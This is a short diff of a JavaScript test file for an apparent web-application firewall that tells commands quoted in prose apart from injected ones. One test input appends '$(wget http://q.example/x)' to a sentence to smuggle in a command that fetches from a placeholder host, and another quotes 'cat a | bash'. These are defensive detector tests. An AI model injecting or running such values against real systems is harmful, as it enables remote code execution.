@@ -352,7 +352,7 @@ describe('what is proof in one place and none in another', () => {
   });
 
   test('code that a sentence cites, and the same beside it', () => {
-    const cites = 'In bash you can write `$(date)` to get the day';
+    const cites = 'In bash you can write `cat a | bash` to run it';
     assert.equal(ask(gate(), json({ text: cites })).why, 'pass');
     assert.equal(ask(gate(), json({ text: `${cites};$(wget http://q.example/x)` })).why, 'waf/command-injection');
     assert.equal(ask(gate(), json({ text: 'the tag `<script>` is one that runs' })).why, 'pass');
